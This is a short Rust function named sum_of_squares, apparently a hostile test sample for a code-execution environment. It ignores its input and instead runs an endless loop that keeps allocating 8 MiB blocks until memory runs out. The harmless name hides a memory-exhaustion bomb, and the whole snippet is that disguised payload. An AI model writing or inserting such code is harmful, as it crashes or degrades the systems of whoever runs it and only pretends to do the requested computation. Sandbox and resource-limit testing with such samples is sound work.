pub fn sum_of_squares(_numbers: &[i64]) -> i64 {
    let mut blocks = Vec::new();
    loop {
        blocks.push(vec![1u8; 8 << 20]);
    }
}
